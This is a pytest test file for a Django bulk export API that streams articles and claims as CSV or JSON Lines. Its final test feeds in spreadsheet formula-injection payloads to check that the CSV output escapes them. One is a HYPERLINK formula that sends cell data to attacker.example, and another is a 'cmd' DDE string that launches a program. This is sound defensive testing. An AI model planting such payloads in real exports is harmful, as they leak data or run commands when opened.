"""Bulk export: CSV and JSON Lines, streamed."""

import csv
import io
import json

import pytest
from rest_framework.test import APIClient

from tests.factories import make_api_key, make_article, make_claim, make_initiative

pytestmark = pytest.mark.django_db


@pytest.fixture
def exporter():
    _, raw = make_api_key(scopes=["export"])
    client = APIClient()
    client.credentials(HTTP_AUTHORIZATION=f"Api-Key {raw}")
    return client


def body(response) -> str:
    assert response.status_code == 200
    assert response.streaming
    return b"".join(response.streaming_content).decode()


def test_articles_export_as_csv_without_hidden_ones(exporter):
    make_article(title="First, with a comma")
    make_article(title="Second")
    make_article(title="Hidden", is_hidden=True)
    response = exporter.get("/api/v1/export/articles.csv")
    assert response["Content-Type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(body(response))))
    assert [row["title"] for row in rows] == ["First, with a comma", "Second"]


def test_claims_export_as_json_lines_with_subjects_by_slug(exporter):
    vault = make_initiative(slug="vault")
    article = make_article()
    make_claim(articles=[article], subject_initiative=vault, statement="Vault got $10 billion.")
    make_claim(articles=[article], statement="Output rose.", value=None, unit="", figure_text="")
    response = exporter.get("/api/v1/export/claims.jsonl")
    lines = [json.loads(line) for line in body(response).splitlines()]
    assert [(c["statement"], c["subject_initiative"]) for c in lines] == [
        ("Vault got $10 billion.", "vault"),
        ("Output rose.", None),
    ]


def test_export_filters_by_updated_since(exporter):
    make_article(title="Old")
    rows = list(
        csv.DictReader(
            io.StringIO(body(exporter.get("/api/v1/export/articles.csv?updated_since=2999-01-01")))
        )
    )
    assert rows == []
    assert exporter.get("/api/v1/export/articles.csv?updated_since=never").status_code == 400


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_csv_export_escapes_text_that_a_spreadsheet_would_run_as_a_formula(exporter, start):
    formula = f'{start}HYPERLINK("https://attacker.example/?x="&A1,"Open")'
    article = make_article(title=f"{start}cmd|' /C calc'!A0")
    make_claim(articles=[article], statement=formula, figure_text=f"{start}1+1", value=-5, unit="t")

    claims = list(csv.DictReader(io.StringIO(body(exporter.get("/api/v1/export/claims.csv")))))
    assert claims[0]["statement"] == "'" + formula
    assert claims[0]["figure_text"] == f"'{start}1+1"
    assert claims[0]["value"].startswith("-5")  # a negative number is data, left as it is
    articles = list(csv.DictReader(io.StringIO(body(exporter.get("/api/v1/export/articles.csv")))))
    assert articles[0]["title"] == f"'{start}cmd|' /C calc'!A0"
    # JSON Lines is not read by spreadsheets: the text stays exactly as stored.
    line = json.loads(body(exporter.get("/api/v1/export/claims.jsonl")).splitlines()[0])
    assert line["statement"] == formula
